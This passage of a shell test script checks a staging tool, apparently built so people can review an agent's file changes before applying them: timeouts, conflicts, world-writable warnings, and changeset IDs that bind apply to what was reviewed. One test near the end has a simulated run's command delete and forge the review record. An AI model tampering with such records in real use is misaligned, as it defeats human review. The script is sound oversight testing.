    skip "review warns of changes in a core.hooksPath directory inside .git" "git is not installed"
    skip "review does not hang when git blocks in the workspace" "git is not installed"
fi

# how the command ended: a run cut short by --timeout (or a signal) may
# have left a file half-written, which the changes list as any other
Wt=$T/wsended; mkdir -p "$Wt"
(cd "$Wt" && "$P" run --stage auto -- sh -c 'echo done > f') >/dev/null 2>&1
(cd "$Wt" && "$P" status --review; "$P" status --review --json) > "$T/ended1.out" 2>&1
(cd "$Wt" && "$P" run --stage auto --timeout 1 -- sh -c 'echo partial > g; exec sleep 30') >/dev/null 2>&1
(cd "$Wt" && "$P" status --review; "$P" status --review --json) > "$T/ended2.out" 2>&1
eq "$(grep -c '^Ended: *exit status 0$' "$T/ended1.out"):$(grep -c '^Ended: .*--timeout expired, killed by SIGTERM: files it was writing may be cut short' "$T/ended2.out"):$(sed -n '/^{/,$p' "$T/ended2.out" | jq -r '.run_exit | "\(.timed_out) \(.signal_name)"')" \
    "1:1:true TERM" "review says how the command ended: its exit status, or the --timeout and signal that stopped it (human and JSON)"
# a later run of that stage ends well: the file the stopped one was
# writing is still in the stage, and the review still says so
ended_run=$(latest_run)
(cd "$Wt" && "$P" run --stage "$XDG_STATE_HOME/pvisor/runs/$ended_run/stage" -- sh -c 'echo more > h') >/dev/null 2>&1
(cd "$Wt" && "$P" status --review; "$P" status --review --json) > "$T/ended3.out" 2>&1
eq "$(grep -c '^Ended: *exit status 0$' "$T/ended3.out"):$(grep -c "^Note: *an earlier run of this stage, $ended_run, ran out its --timeout, was killed by SIGTERM: files it was writing may be cut short$" "$T/ended3.out"):$(sed -n '/^{/,$p' "$T/ended3.out" | jq -r '[.earlier_runs[] | "\(.run) \(.exit.timed_out) \(.exit.signal_name)"] | join(",")')" \
    "1:1:$ended_run true TERM" \
    "review of a later run of the stage notes the earlier run that --timeout stopped (human), and lists the earlier runs (JSON earlier_runs)"
# reviewed by the RUN of an older run of a stage, a newer run that
# --timeout stopped is not called an earlier one
(cd "$Wt" && "$P" run --stage auto -- sh -c 'echo done > k') >/dev/null 2>&1
older_run=$(latest_run)
(cd "$Wt" && "$P" run --stage "$XDG_STATE_HOME/pvisor/runs/$older_run/stage" --timeout 1 -- sh -c 'echo partial > l; exec sleep 30') >/dev/null 2>&1
newer_run=$(latest_run)
"$P" status --review "$older_run" > "$T/ended4.out" 2>&1
eq "$(grep -c "^Note: *a later run of this stage, $newer_run, ran out its --timeout" "$T/ended4.out"):$(grep -c '^Note: *an earlier run' "$T/ended4.out")" \
    "1:0" "  reviewed by an older RUN, a newer run that --timeout stopped is called a later one, not an earlier one"

# processes the command left running (a background job) are killed when
# it exits, maybe in the middle of a write: the Bundle counts them
# (exit.leftovers_killed) and review says so
Wl=$T/wsleft; mkdir -p "$Wl"
(cd "$Wl" && "$P" run --stage auto -- sh -c '(sleep 30; echo late > late) & echo done > f') >/dev/null 2>&1
left_run=$(latest_run)
(cd "$Wl" && "$P" status --review; "$P" status --review --json) > "$T/left.out" 2>&1
eq "$(jq -r .exit.leftovers_killed "$XDG_STATE_HOME/pvisor/runs/$left_run/bundle.json"):$(grep -c '^Note: *[1-9][0-9]* process\(es\)\{0,1\} the command left running \(was\|were\) killed when it exited' "$T/left.out"):$(sed -n '/^{/,$p' "$T/left.out" | jq -r '.run_exit.leftovers_killed > 0')" \
    "$(jq -r .exit.leftovers_killed "$XDG_STATE_HOME/pvisor/runs/$left_run/bundle.json" | grep -v '^0$' | head -c 9):1:true" \
    "review notes the processes the command left running that were killed at its end (Bundle exit.leftovers_killed)"

# A later run (a trivial one, a mistyped command) made the newest stage of
# the workspace: the verbs that take it by default say which other stages
# of the workspace are neither applied nor dropped (the agent's went
# unmentioned, and an apply of the empty one marked it applied).
Wn=$T/wsnewest; mkdir -p "$Wn"
(cd "$Wn" && "$P" run --stage auto -- sh -c 'echo agent > work') >/dev/null 2>&1
agent_run=$(latest_run)
(cd "$Wn" && "$P" run --stage auto -- true) >/dev/null 2>&1
(cd "$Wn" && "$P" status --review >/dev/null 2>"$T/newest1.err"; "$P" diff >/dev/null 2>"$T/newest2.err"; "$P" status --review "$agent_run" >/dev/null 2>"$T/newest3.err")
eq "$(grep -c "^pvisor status: note: 1 other stage of this workspace is neither applied nor dropped; with changes (newest first): $agent_run (sealed);" "$T/newest1.err"):$(grep -c "^pvisor diff: note: 1 other stage" "$T/newest2.err"):$(wc -c < "$T/newest3.err")" \
    "1:1:0" "review and diff of the newest stage name the workspace's other stages not applied or dropped (not when a run is named)"
# three more runs that only read: a bare apply took the newest (empty)
# stage, wrote nothing and exited 0, and the note named the three empty
# ones, the agent's behind "..." (found by a review): it is refused now,
# naming the stage with changes; the note lists those first and counts
# the empty ones
for i in 1 2 3; do (cd "$Wn" && "$P" run --stage auto -- cat work) >/dev/null 2>&1; done
(cd "$Wn" && "$P" apply) >/dev/null 2>"$T/newest5.err"; rc=$?
(cd "$Wn" && "$P" status --review >/dev/null 2>"$T/newest6.err")
eq "$rc:$(cat "$Wn/work" 2>/dev/null):$(grep -c "^pvisor apply: the newest run's stage (.*) holds no change, and 1 other stage of this workspace holds changes (newest first): $agent_run (sealed): name the run to apply" "$T/newest5.err"):$(grep -c "^pvisor status: note: 4 other stages of this workspace are neither applied nor dropped; with changes (newest first): $agent_run (sealed); 3 with no change;" "$T/newest6.err")" \
    "1::1:1" "a bare apply of the newest stage, which holds no change, is refused when another holds changes, naming it; the note lists those first"
(cd "$Wn" && "$P" apply "$agent_run") >/dev/null 2>&1; rc=$?
eq "$rc:$(cat "$Wn/work" 2>/dev/null)" "0:agent" "  ... and 'pvisor apply RUN' of it applies"
for r in $(cd "$Wn" && "$P" list --json | jq -r --arg w "$(cd "$Wn" && pwd -P)" '.[] | select(.stage_state == "sealed" and .workspace == $w) | .run_id' 2>/dev/null); do
    (cd "$Wn" && "$P" drop "$r") >/dev/null 2>&1
done
(cd "$Wn" && "$P" run --stage auto -- true) >/dev/null 2>&1
(cd "$Wn" && "$P" status --review >/dev/null 2>"$T/newest4.err")
eq "$(wc -c < "$T/newest4.err")" "0" "  none once the other stages are dropped"
# ... but a run whose command never ran (a --safe start pvisor refused, a
# command not found) is passed over: its stage is empty (or another run's,
# reopened), and a bare apply took it (marking it applied) instead of the
# agent's
Wf=$T/wsfailed; mkdir -p "$Wf"
(cd "$Wf" && "$P" run --stage auto -- sh -c 'echo agent > work') >/dev/null 2>&1
agent_run=$(latest_run)
(cd "$Wf" && "$P" run --stage auto -- "$T/no-such-command") >/dev/null 2>&1
nf_run=$(latest_run)
mkdir -p "$T/outside"; (cd "$T/outside" && "$P" run --safe --workspace "$Wf" -- true) >/dev/null 2>&1
sf_run=$(latest_run)
(cd "$Wf" && "$P" status --review --json 2>"$T/failed1.err" | jq -r .run; "$P" apply 2>"$T/failed2.err" >/dev/null; echo "apply=$?")  > "$T/failed.out"
eq "$(jq -r .state "$XDG_STATE_HOME/pvisor/runs/$nf_run/bundle.json") $(jq -r .state "$XDG_STATE_HOME/pvisor/runs/$sf_run/bundle.json"):$(cat "$T/failed.out" | tr '\n' ' ')$(cat "$Wf/work" 2>&1):$(cat "$T/failed1.err" "$T/failed2.err" | grep -c "note: the newest run here, $sf_run, never ran its command (setup_failed): this is run $agent_run's stage")" \
    "exec_failed setup_failed:$agent_run apply=0 agent:2" \
    "review and apply without a run pass over newer runs whose command never ran (not found, refused): the agent's stage is taken, and each says so"
# ... but a bare drop, which discards the stage, refuses: the user meant
# the run that failed (which left nothing to drop), and it dropped the
# agent's work before it
Wd=$T/wsdropfailed; mkdir -p "$Wd"
(cd "$Wd" && "$P" run --stage auto -- sh -c 'echo agent > work') >/dev/null 2>&1
agent_run=$(latest_run)
(cd "$Wd" && "$P" run --stage auto -- "$T/no-such-command") >/dev/null 2>&1
nf_run=$(latest_run)
(cd "$Wd" && "$P" drop) >/dev/null 2>"$T/dropfailed.err"; rc=$?
eq "$rc:$(grep -c "the newest run here, $nf_run, never ran its command (exec_failed) and left nothing to drop; the newest stage is run $agent_run's, with its work: to drop that, name it ('pvisor drop $agent_run')" "$T/dropfailed.err"):$(cd "$Wd" && "$P" status "$agent_run" --json | jq -r '.stage.current_state')" \
    "1:1:sealed" "  a bare drop refuses then, naming both runs; the agent's stage is kept"
(cd "$Wd" && "$P" drop "$agent_run") >/dev/null 2>&1; rc=$?
eq "$rc:$(cd "$Wd" && "$P" status "$agent_run" --json | jq -r '.stage.current_state')" "0:dropped" "  named, it is dropped"
# ... but not one that reopened a stage holding work (--stage DIR again, a
# fork): a fork is named by no other run's Bundle, so passed over, review
# and apply took the stage it was forked from (the work the fork was made
# to leave out), and no note named the fork
Wk=$T/wsforkfail; mkdir -p "$Wk"
(cd "$Wk" && "$P" run --stage auto -- sh -c 'echo agent > work') >/dev/null 2>&1
src_run=$(latest_run)
(cd "$Wk" && "$P" fork "$T/forkfail") >/dev/null 2>&1
(cd "$Wk" && "$P" run --stage "$T/forkfail" -- "$T/no-such-command") >/dev/null 2>&1
ff_run=$(latest_run)
(cd "$Wk" && "$P" status --review --json 2>/dev/null | jq -r .run; "$P" apply >/dev/null 2>&1; echo "apply=$?") > "$T/forkfail.out"
eq "$(jq -r .state "$XDG_STATE_HOME/pvisor/runs/$ff_run/bundle.json"):$(tr '\n' ' ' < "$T/forkfail.out")$(cat "$T/forkfail/applied" >/dev/null 2>&1 && echo fork-applied)" \
    "exec_failed:$ff_run apply=0 fork-applied" \
    "  a run whose command never ran on a fork it reopened is not passed over: the fork is taken, not its source"

# Reviewed by root: a file the command changed and gave another owner (a
# chown, a tar x as root) is listed with the owner change, which root's
# apply makes (review said only '(content)'); one it only changed is not.
if [ "$(id -u)" -eq 0 ]; then
    Wo=$T/wsowner So=$T/stowner
    mkdir -p "$Wo" && echo a > "$Wo/f" && echo b > "$Wo/g" && chown 4242:4242 "$Wo/f" "$Wo/g"
    stage_run "$Wo" "$So" 'echo more >> f && chown 1005:1006 f && echo more >> g' >/dev/null 2>&1
    eq "$("$P" status --review "$So" | grep -c '^  M f  (content)  (owner 4242:4242 -> 1005:1006)$'):$("$P" status --review "$So" | grep -c '^  M g  (content)$'):$(review_json "$So" | jq -c '[.changeset.changes[] | select(.path == "f") | .changes, .old.owner, .new.owner]')" \
        '1:1:[["content","owner"],[4242,4242],[1005,1006]]' "review as root lists the owner change root's apply makes (human and JSON), not for a file only written"
    "$P" apply --stage "$So" >/dev/null 2>&1
    eq "$?:$(stat -c %u:%g "$Wo/f") $(stat -c %u:%g "$Wo/g")" "0:1005:1006 4242:4242" "  and apply gives it, as review said"
else
    skip "review as root lists the owner change root's apply makes" "needs root"
fi

# The host edits files during the run, before the command first changes
# them: the preimage (taken at that change) holds the edit, so apply's
# conflict check cannot see it, and the command's version may not keep it.
# Review warns of each (changed_during_run); not of a file edited before
# the run, nor of one the command never changed.
Wd=$T/wsduring Sd=$T/stduring
mkdir -p "$Wd" && echo orig > "$Wd/f" && echo orig > "$Wd/g" && echo orig > "$Wd/h" && echo orig > "$Wd/k"
echo before >> "$Wd/g"
"$P" run --stage "$Sd" --workspace "$Wd" -- sh -c "cd '$Wd' && while [ ! -e '$T/during.go' ]; do sleep 0.05; done; echo agent > f; echo agent > g; rm h" >/dev/null 2>&1 &
drun=$!
sleep 1
echo host >> "$Wd/f"; echo host >> "$Wd/h"; echo host >> "$Wd/k"; touch "$T/during.go"
wait $drun
"$P" status --review "$Sd" > "$T/during.out" 2>&1
"$P" status --review "$Sd" --json > "$T/during.json" 2>&1
eq "$(grep -c '^  ! f: changed on the host during the run' "$T/during.out"):$(grep -c '^  ! h: changed on the host during the run' "$T/during.out"):$(grep -c '^  ! [gk]: changed' "$T/during.out"):$(jq -r '[.changeset.warnings[] | select(.warning == "changed_during_run") | .path] | join(",")' "$T/during.json")" \
    "1:1:0:f,h" "review warns of files the host changed during the run before the command changed or deleted them (not of one edited before the run, nor of one the command left alone)"

# A workspace moved away after its run: apply names it as what is gone (it
# said "cannot open the stage ... or its workspace"), writes nothing, and
# applies once it is back.
W=$T/wsmoved
mkdir -p "$W" && echo old > "$W/f"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo new > f') >/dev/null 2>&1
mrun=$(latest_run)
mv "$W" "$W.away"
"$P" apply "$mrun" 2>"$T/moved.err"; rc=$?
eq "$rc:$(grep -c "the workspace $W of the stage .* is gone (moved or removed since the run?); nothing was written" "$T/moved.err")" \
    "1:1" "apply of a stage whose workspace was moved says the workspace is gone"
# ... and a file put at its path is named as the workspace's failure, not
# the stage's ("cannot open the stage ...: Not a directory")
touch "$W"
"$P" apply "$mrun" 2>"$T/moved.err"; rc=$?
eq "$rc:$(grep -c "cannot open the workspace $W of the stage .*: Not a directory (replaced by a file since the run?); nothing was written" "$T/moved.err"):$(grep -c 'cannot open the stage' "$T/moved.err")" \
    "1:1:0" "apply of a stage whose workspace is now a file says the workspace is not a directory"
rm "$W"
mv "$W.away" "$W"
"$P" apply "$mrun" >/dev/null 2>&1; rc=$?
eq "$rc:$(cat "$W/f")" "0:new" "  ... and applies once it is back"

# A path whose type changed to a symlink shows the link's target, as an
# added link does (it showed "(dir -> lnk)" alone)
W=$T/wstl; S=$T/sttl
mkdir -p "$W/lib" && echo x > "$W/lib/x" && echo y > "$W/f"
stage_run "$W" "$S" 'rm -r lib f && ln -s /opt/elsewhere lib && ln -s lib/x f' >/dev/null 2>&1
eq "$("$P" status --review --stage "$S" | grep -E '^  T (lib|f) ' | sed 's/  */ /g' | tr '\n' '|')" \
    " T f (reg -> lnk) -> lib/x| T lib (dir -> lnk) -> /opt/elsewhere|" "review shows the target of a path that became a symlink"

# A file or directory made writable by every user (o+w) is applied as is:
# any local user could then change it, or plant files in the directory.
W=$T/wsww; S=$T/stww
mkdir -p "$W/d" "$W/open" && echo a > "$W/f" && echo b > "$W/was" && chmod 0666 "$W/was" && chmod 0777 "$W/open"
stage_run "$W" "$S" 'chmod 0777 d && chmod o+w f && echo n > new && chmod 0666 new && echo c >> was && chmod 0777 open && echo k > keep' >/dev/null 2>&1
eq "$("$P" status --review --stage "$S" --json | jq -r '[.changeset.warnings[] | select(.warning == "world_writable") | .path] | sort | join(",")')" \
    "d,f,new" "review warns of what becomes writable by every user (world_writable), not of what already was"

# Drop takes the stage's checkpoints with it (a later restore is refused):
# the message said nothing of them. It says how many, and names them.
W=$T/wsdropcp; S=$T/stdropcp
mkdir -p "$W" && echo old > "$W/f"
stage_run "$W" "$S" 'echo new > f' >/dev/null 2>&1
"$P" checkpoint --stage "$S" --name one >/dev/null 2>&1
"$P" checkpoint --stage "$S" --name two >/dev/null 2>&1
"$P" drop --stage "$S" >"$T/dropcp.out" 2>&1; rc=$?
eq "$rc:$(grep -c "its changes are discarded, and its 2 checkpoints (one, two) with them;" "$T/dropcp.out")" "0:1" \
    "drop says how many checkpoints went with the stage, and names them"

# A drop of a stage already dropped printed "Dropped stage ..." again, as if
# it had discarded something: it says the stage was already dropped (exit
# 0: what a drop cut short left is still removed); the same for an applied
# stage whose copy an earlier drop removed.
W=$T/wsdrop2; S=$T/stdrop2
mkdir -p "$W" && echo old > "$W/f"
stage_run "$W" "$S" 'echo new > f' >/dev/null 2>&1
"$P" drop --stage "$S" >/dev/null 2>&1
"$P" drop --stage "$S" >"$T/drop2.out" 2>&1; rc=$?
eq "$rc:$(grep -c "was already dropped; nothing was discarded now" "$T/drop2.out"):$(grep -c "^Dropped stage" "$T/drop2.out")" \
    "0:1:0" "drop of a dropped stage says it was already dropped (exit 0)"
rm -rf "$S"; stage_run "$W" "$S" 'echo new > f' >/dev/null 2>&1
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>&1
"$P" drop --stage "$S" >/dev/null 2>&1
"$P" drop --stage "$S" >"$T/drop2a.out" 2>&1; rc=$?
eq "$rc:$(grep -c "an earlier drop already removed its copy of the changes" "$T/drop2a.out")" "0:1" \
    "  ... and of an applied stage already emptied, that its copy was already removed"

# apply's refusal of a stage that is done said "already applied or
# dropped": it says which.
W=$T/wsalready; S=$T/stalready
mkdir -p "$W" && echo old > "$W/f"
stage_run "$W" "$S" 'echo new > f' >/dev/null 2>&1
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>&1
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/already1.err"; r1=$?
rm -rf "$S"; stage_run "$W" "$S" 'echo newer > f' >/dev/null 2>&1
"$P" drop --stage "$S" >/dev/null 2>&1
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/already2.err"; r2=$?
eq "$r1:$(grep -c "was already applied:" "$T/already1.err"):$r2:$(grep -c "was already dropped:" "$T/already2.err"):$(cat "$T/already1.err" "$T/already2.err" | grep -c "applied or dropped")" \
    "1:1:1:1:0" "apply of an applied or a dropped stage says which one it was"
# and so do checkpoint, fork, restore and a run on it (the stage is dropped)
"$P" checkpoint --stage "$S" >/dev/null 2>"$T/already3.err"
"$P" fork --stage "$S" "$T/stalready-fork" >/dev/null 2>>"$T/already3.err"
"$P" restore --stage "$S" x >/dev/null 2>>"$T/already3.err"
"$P" run --stage "$S" --workspace "$W" -- true >/dev/null 2>>"$T/already3.err"
eq "$(grep -c "already dropped: its changes were discarded" "$T/already3.err"):$(grep -c "applied or dropped" "$T/already3.err")" "4:0" \
    "  checkpoint, fork, restore and run of a dropped stage say it was dropped"

# Ctrl-C or SIGTERM during apply exited 130/143 without a word, though the
# workspace was half-written: it says so, and what completes it.
W=$T/wsintr; S=$T/stintr
mkdir -p "$W"; i=0; while [ $i -lt 10 ]; do echo "old $i" > "$W/f$i"; i=$((i + 1)); done
stage_run "$W" "$S" 'for f in f*; do echo new >> $f; done' >/dev/null 2>&1
for sig in TERM INT; do
    # a background job's SIGINT is ignored by sh: env puts it back
    PVISOR_TEST_APPLY_DELAY_US=200000 env --default-signal=INT "$P" apply --stage "$S" >/dev/null 2>"$T/intr.err" &
    ap=$!; wait_for "$S/apply-intent"; sleep 0.3; kill -$sig $ap; wait $ap; rc=$?
    eq "$rc:$(grep -c "interrupted: the apply of the stage $S into $W is half done .*'pvisor apply --stage $S' completes it" "$T/intr.err")" \
        "$([ $sig = TERM ] && echo 143 || echo 130):1" "SIG$sig during apply says the apply is half done and how to complete it"
done
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc:$(cat "$W/f9")" "0:old 9
new" "  ... and the next apply completes it"

# What the conflict check covers (README, docs/stage-format.md): an edit on
# the host after the agent's first write to a file is a conflict; one made
# during the run before that write is what the agent saw (its preimage),
# and apply writes the agent's version over it without a conflict.
W=$T/wsduring2; S=$T/stduring2
mkdir -p "$W" && echo orig > "$W/f" && echo orig > "$W/g"
stage_run "$W" "$S" "i=0; while [ ! -e '$T/during1' ] && [ \$i -lt 200 ]; do sleep 0.05; i=\$((i + 1)); done
    echo agent > f; echo agent > g; touch '$T/during2'
    i=0; while [ ! -e '$T/during3' ] && [ \$i -lt 200 ]; do sleep 0.05; i=\$((i + 1)); done" >/dev/null 2>&1 &
sr=$!
echo "host edit" > "$W/f"; touch "$T/during1"
wait_for "$T/during2"; echo "host edit" > "$W/g"; touch "$T/during3"
wait $sr
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/during.err"; rc=$?
eq "$rc:$(grep -c '^  g:' "$T/during.err"):$(grep -c '^  f:' "$T/during.err")" "1:1:0" \
    "a host edit after the agent's first write is a conflict; one before it is not (the documented limit)"

# ---------------------------------------------------------------------------
# The changeset ID binds what was reviewed to what apply does
# (docs/lifecycle.md, "The changeset ID"): before, apply re-read the stage,
# and a run on it after the review (a harness's, a second terminal's) had
# apply write changes no one reviewed, silently.

# review_id STAGE: the ID the review's JSON gives (null: none)
review_id() {
    "$P" status --review --stage "$1" --json 2>/dev/null |
        sed -n 's/^    "id": \(null\|"\([0-9a-f]*\)"\),*$/\1/p' | tr -d '"'
}
W=$T/wsid; S=$T/stid
mkdir -p "$W/src" && echo "line one" > "$W/src/a.c" && echo keep > "$W/b" && echo gone > "$W/old"
stage_run "$W" "$S" 'echo "line two" >> src/a.c && rm old && mkdir new && echo fresh > new/n && ln -s src/a.c link && chmod 0750 b' >/dev/null 2>&1
id1=$(review_id "$S"); id2=$(review_id "$S")
eq "$(printf %s "$id1" | grep -c '^[0-9a-f]\{32\}$'):$id2" "1:$id1" "the review's JSON gives a changeset ID of 32 hex digits, the same twice"
"$P" status --review --stage "$S" > "$T/id.review"
"$P" diff --stat --stage "$S" > "$T/id.stat"
script -qec "'$P' diff --stage '$S'" /dev/null > "$T/id.tty" 2>&1
"$P" diff --stage "$S" > "$T/id.pipe"
eq "$(grep -c "^Changeset:   $id1 (to apply exactly these changes: 'pvisor apply --expect $id1')" "$T/id.review"):$(grep -c "^Changeset $id1 " "$T/id.stat"):$(tr -d '\r' < "$T/id.tty" | grep -c "^Changeset $id1 "):$(grep -c Changeset "$T/id.pipe")" \
    "1:1:1:0" "  the human review, diff --stat and diff on a terminal show the same ID; a diff into a pipe stays diff(1)'s"
# stable whatever order the names were made in (and wherever the stage is)
W2=$T/wsord; rm -rf "$W2"; mkdir -p "$W2"
stage_run "$W2" "$T/stord1" 'for f in a b c d e f g h; do echo $f > $f; done' >/dev/null 2>&1
stage_run "$W2" "$T/stord2" 'for f in h g f e d c b a; do echo $f > $f; done' >/dev/null 2>&1
eq "$(review_id "$T/stord1")" "$(review_id "$T/stord2")" "  the same changes made in another order, in another stage, have the same ID"

# each change of what apply would write gives another ID
fork_id() { # fork_id NAME SCRIPT: the ID of a fork of $S after a run of SCRIPT on it
    "$P" fork --stage "$S" "$T/stid-$1" >/dev/null 2>&1 && (cd "$W" && stage_run "$W" "$T/stid-$1" "$2") >/dev/null 2>&1
    (cd "$W" && review_id "$T/stid-$1")
}
idb=$(fork_id byte "printf 'line onE\nline two\n' > src/a.c")
idm=$(fork_id mode "chmod 0755 b")
idl=$(fork_id link "ln -sfn b link")
ids=$(fork_id same "cat src/a.c > /dev/null")
idt=$(fork_id touch "touch -d 2001-01-01 src/a.c new/n")
eq "$([ "$idb" != "$id1" ] && [ -n "$idb" ] && echo y):$([ "$idm" != "$id1" ] && [ -n "$idm" ] && echo y):$([ "$idl" != "$id1" ] && [ -n "$idl" ] && echo y):$ids:$idt" \
    "y:y:y:$id1:$id1" "  a byte of a file, a mode, a symlink target changed in the stage: another ID; a run that changes nothing, or only times: the same"
# a hole at the end is no data segment: the size must be in the ID (a
# file of one full block reviewed, then truncated far beyond it by a run
# after the review, applied as a 1 MiB file under the reviewed ID)
idf=$(fork_id block "head -c 4096 /dev/zero | tr '\\0' x > new/n")
idh=$(fork_id blockhole "head -c 4096 /dev/zero | tr '\\0' x > new/n && truncate -s 1M new/n")
eq "$([ -n "$idf" ] && [ "$idf" != "$idh" ] && echo y):$(stat -c %s "$T/stid-blockhole/upper/new/n")" "y:1048576" \
    "  a file extended by a hole at its end (its data the same): another ID"
if $have_xattr && setfattr -n user.t -v 1 "$T" 2>/dev/null; then
    idx=$(fork_id xattr "setfattr -n user.note -v x new/n")
    eq "$([ "$idx" != "$id1" ] && [ -n "$idx" ] && echo y)" "y" "  a user xattr set in the stage: another ID"
else
    skip "  a user xattr set in the stage: another ID" "no user xattrs here"
fi

# apply --expect: a bad ID is a usage error; a stale one refuses and writes nothing
before=$(manifest "$W")
for bad in 1234 "$id1"0 "g$(printf %s "$id1" | cut -c2-)" ""; do
    (cd "$W" && "$P" apply --stage "$S" --expect "$bad") >/dev/null 2>"$T/id.bad"; rc=$?
    eq "$rc:$(grep -c "is not a changeset ID (32 hex digits" "$T/id.bad")" "2:1" "  apply --expect '$bad' is a usage error"
done
stage_run "$W" "$S" 'echo "not reviewed" >> src/a.c' >/dev/null 2>&1
id3=$(review_id "$S")
(cd "$W" && "$P" apply --stage "$S" --expect "$id1") >"$T/id.out" 2>"$T/id.err"; rc=$?
eq "$rc:$(grep -c "refused: the changes of the stage $S are not the changeset $id1 that --expect names: they are changeset $id3 now" "$T/id.err"):$(grep -c "Nothing was written" "$T/id.err")" \
    "1:1:1" "apply --expect of the ID reviewed before another run on the stage refuses, naming both IDs"
eq "$(manifest "$W")" "$before" "  ... and writes nothing"
eq "$(cat "$S/sealed" >/dev/null 2>&1 && echo sealed):$(ls "$S" | grep -c 'applied\|apply-intent')" "sealed:0" "  ... and the stage stays sealed"
(cd "$W" && "$P" apply --stage "$S" --expect "$id1" --dry-run) >/dev/null 2>&1; rc=$?
eq "$rc" 1 "  ... a dry run refuses it too"
# --path: the ID is the whole changeset's, as the review printed it
(cd "$W" && "$P" apply --stage "$S" --expect "$id1" --path new) >/dev/null 2>&1; rc=$?
eq "$rc:$([ -e "$W/new" ] && echo y)" "1:" "  ... so does an apply --path of a part the second run left alone"
(cd "$W" && "$P" apply --stage "$S" --expect "$(printf %s "$id3" | tr a-f A-F)" --path new) >"$T/id.out" 2>&1; rc=$?
eq "$rc:$(cat "$W/new/n"):$(grep -c "^Changeset $id3: the one --expect named" "$T/id.out")" "0:fresh:1" \
    "apply --path with the whole changeset's ID (in upper case too) applies that path, and says the ID"
id4=$(review_id "$S")
(cd "$W" && "$P" apply --stage "$S" --expect "$id4") >"$T/id.out" 2>&1; rc=$?
eq "$rc:$([ "$id4" != "$id3" ] && echo y):$(tail -n 1 "$W/src/a.c"):$(readlink "$W/link"):$([ -e "$W/old" ] || echo gone)" \
    "0:y:not reviewed:src/a.c:gone" "  ... the rest has an ID of its own, which the review after it gives, and apply --expect of it applies"
eq "$(review_id "$S")" "null" "  an applied stage has no ID"
# an interrupted apply: its resume writes its intent's plan, no ID vouches for it
W=$T/wsidr; S=$T/stidr
mkdir -p "$W"; i=0; while [ $i -lt 6 ]; do echo "old $i" > "$W/f$i"; i=$((i + 1)); done
stage_run "$W" "$S" 'for f in f*; do echo new >> $f; done' >/dev/null 2>&1
idr=$(review_id "$S")
PVISOR_TEST_APPLY_DELAY_US=200000 "$P" apply --stage "$S" --expect "$idr" >/dev/null 2>&1 &
ap=$!; wait_for "$S/apply-intent"; sleep 0.3; kill -KILL $ap; wait $ap 2>/dev/null
eq "$(review_id "$S"):$("$P" status --review --stage "$S" | grep -c '^Changeset:   none while the interrupted apply is pending')" "null:1" \
    "a stage whose apply was interrupted has no ID: its resume writes what the intent recorded"
"$P" apply --stage "$S" --expect "$idr" >/dev/null 2>"$T/idr.err"; rc=$?
eq "$rc:$(grep -c "an interrupted apply of the stage $S is pending; completing it writes what that apply recorded, for which --expect cannot vouch" "$T/idr.err")" \
    "1:1" "apply --expect of a stage whose apply was interrupted refuses (the intent decides the resume)"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
eq "$rc:$(cat "$W/f5")" "0:old 5
new" "  ... and apply without it completes the resume"

# ---------------------------------------------------------------------------
# A plain apply (no --expect) of a reviewed stage applies only what the last
# review showed (docs/lifecycle.md, "The changeset ID"): before, a run on the
# stage after the review, or a restore, had a plain apply write changes no
# one reviewed, silently.
W=$T/wsrv; S=$T/strv
mkdir -p "$W" && echo orig > "$W/f" && echo keep > "$W/k"
stage_run "$W" "$S" 'echo reviewed > f' >/dev/null 2>&1
stage_run "$W" "$S" 'echo second > g' >/dev/null 2>&1
(cd "$W" && "$P" apply --stage "$S" --dry-run) >/dev/null 2>&1; rc=$?
eq "$rc:$(ls "$S" | grep -c '^reviewed$')" "0:0" "a stage never reviewed has no review record, and applies as it is (two runs, no review between)"
rv1=$(review_id "$S")
eq "$(cat "$S/reviewed" 2>/dev/null):$(stat -c %a "$S/reviewed" 2>/dev/null)" "pvisor-reviewed 1 $rv1 $([ "$(id -u)" -eq 0 ] && echo 1 || echo 0):644" \
    "the review records the ID it showed in the stage directory (outside anything the command can write)"
# a run after the review, which also tries to remove or forge the record
# (--safe: a run with --stage alone confines nothing, see "Trust")
"$P" run --safe --stage "$S" --workspace "$W" -- sh -c "cd '$W' && echo unreviewed > f; rm -f '$S/reviewed'; echo forged > '$S/reviewed'" >/dev/null 2>&1
eq "$(cut -d' ' -f3 "$S/reviewed")" "$rv1" "  the command of a later run can neither remove nor rewrite the record"
before=$(manifest "$W")
(cd "$W" && "$P" apply --stage "$S") >"$T/rv.out" 2>"$T/rv.err"; rc=$?
rv2=$(sed -n 's/.* it is changeset \([0-9a-f]*\) now .*/\1/p' "$T/rv.err")
eq "$rc:$(grep -c "refused: the stage $S changed since its last review, which showed changeset $rv1: it is changeset $rv2 now" "$T/rv.err"):$(grep -c "Nothing was written. Review it again" "$T/rv.err"):$(grep -c -- "--expect $rv2'" "$T/rv.err"):$([ "$rv2" != "$rv1" ] && echo y)" \
    "1:1:1:1:y" "a plain apply of a stage run again after its review refuses, naming both IDs"
eq "$(manifest "$W"):$(ls "$S" | grep -c 'applied\|apply-intent')" "$before:0" "  ... and writes nothing"
(cd "$W" && "$P" apply --stage "$S" --dry-run) >/dev/null 2>&1; rc=$?
eq "$rc" 1 "  ... a dry run refuses it too"
(cd "$W" && "$P" apply --stage "$S" --path g) >/dev/null 2>&1; rc=$?
eq "$rc:$([ -e "$W/g" ] && echo y)" "1:" "  ... so does an apply --path of a part the review saw (the ID is the whole stage's)"
# a diff into a pipe shows no ID, and records none; on a terminal it does
"$P" diff --stage "$S" >/dev/null 2>&1
(cd "$W" && "$P" apply --stage "$S" --dry-run) >/dev/null 2>&1; rc=$?
eq "$rc" 1 "  a diff into a pipe (no ID shown) does not count as a review"
script -qec "'$P' diff --stage '$S'" /dev/null >/dev/null 2>&1
eq "$(cut -d' ' -f3 "$S/reviewed")" "$rv2" "  a diff on a terminal records the ID it shows"
# a subset apply of the reviewed changeset leaves the rest reviewed
(cd "$W" && "$P" apply --stage "$S" --path g) >/dev/null 2>"$T/rv.err"; rc=$?
eq "$rc:$(cat "$W/g")" "0:second" "after the review again, a plain apply --path applies"
